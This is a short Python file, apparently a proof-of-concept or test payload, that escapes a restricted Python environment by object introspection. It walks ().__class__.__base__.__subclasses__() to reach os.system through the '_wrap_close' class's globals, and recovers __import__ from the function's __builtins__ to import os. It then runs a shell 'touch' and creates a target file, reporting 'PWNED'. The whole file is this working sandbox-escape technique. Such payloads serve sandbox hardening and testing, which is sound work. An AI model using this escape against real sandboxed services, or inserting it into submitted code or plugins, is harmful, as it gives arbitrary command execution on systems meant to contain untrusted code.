"""Escape through object introspection: from ().__class__ to os.system via __subclasses__ and
__globals__, and to __import__ via a function's __builtins__."""


def instrument(text, params):
    report = []
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            system = cls.__init__.__globals__["system"]
            report.append(f"system -> {system('touch ' + params['target'])}")
            break
    importer = instrument.__globals__["__builtins__"]
    importer = importer["__import__"] if isinstance(importer, dict) else importer.__import__
    os = importer("os")
    try:
        fd = os.open(params["target"], os.O_CREAT | os.O_WRONLY)
        os.close(fd)
        report.append("PWNED created target")
    except OSError as exc:
        report.append(repr(exc))
    return "\n".join(report)
